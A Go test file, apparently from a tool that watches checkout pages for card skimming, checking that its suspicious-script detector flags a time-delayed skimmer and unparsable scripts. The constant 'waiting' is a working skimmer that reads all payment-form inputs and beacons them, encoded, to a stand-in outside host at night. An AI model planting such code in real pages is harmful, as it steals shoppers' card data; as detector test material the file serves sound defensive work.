package page

import (
	"testing"
	"time"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/known"
	"github.com/tillwatch/tillwatch/sensor/page/browser"
)

// waiting sends what is in the payment form to another host, but only at night.
const waiting = `document.querySelector('#card-number').form.addEventListener('submit', function () {
	if (new Date().getHours() > 4) return;
	var data = {};
	document.querySelectorAll('input').forEach(function (i) { data[i.name] = i.value; });
	navigator.sendBeacon('https://cdn-metrics.example/c', btoa(JSON.stringify(data)));
});`

func TestAScriptThatWaitsIsReadAllTheSame(t *testing.T) {
	v := &visit{scripts: []browser.Script{
		{ID: "1", Session: "s", URL: "https://shop.example/a.js", FrameURL: "https://shop.example/pay", Kind: "external", Source: waiting, SHA256: "1", Line: 1, Column: 1, At: time.Unix(1, 0)},
		{ID: "2", Session: "s", URL: "https://shop.example/pay", FrameURL: "https://shop.example/pay", Kind: "inline", Source: waiting, SHA256: "1", Line: 40, Column: 9, At: time.Unix(1, 0)},
		{ID: "3", Session: "s", URL: "https://js.pay.example/v1.js", FrameURL: "https://js.pay.example/frame", Kind: "external", Source: waiting, SHA256: "1", Line: 1, Column: 1, At: time.Unix(1, 0)},
	}}
	d := destinations{shop: "shop.example", authorised: []string{"*.pay.example"}, providers: known.PaymentProviders()}
	signs := suspiciousScripts(v, d)
	if len(signs) != 2 {
		t.Fatalf("%d signs, want one for each place outside the provider's frame: %+v", len(signs), signs)
	}
	for i, first := range []int{1, 40} {
		s := signs[i]
		if s.Rule != "page/script-suspicious" || s.Severity < tillwatch.Medium || s.Certainty == tillwatch.Certain {
			t.Errorf("%s, %s, %s", s.Rule, s.Severity, s.Certainty)
		}
		if len(s.Evidence) == 0 || s.Evidence[0].Line < first || s.Evidence[0].Line > first+5 || s.Evidence[0].Where == "" {
			t.Errorf("the evidence is not at its lines of the document: %+v", s.Evidence)
		}
	}
}

func TestWhatNobodyCanReadIsSaid(t *testing.T) {
	v := &visit{scripts: []browser.Script{{ID: "1", Session: "s", URL: "https://shop.example/a.js", Kind: "external", Source: "%%% ][ ''' {{{", SHA256: "2", At: time.Unix(1, 0)}}}
	signs := suspiciousScripts(v, destinations{shop: "shop.example", providers: known.PaymentProviders()})
	if len(signs) != 1 || signs[0].Rule != "page/script-unparsable" || signs[0].Severity != tillwatch.Low {
		t.Fatalf("%+v", signs)
	}
}
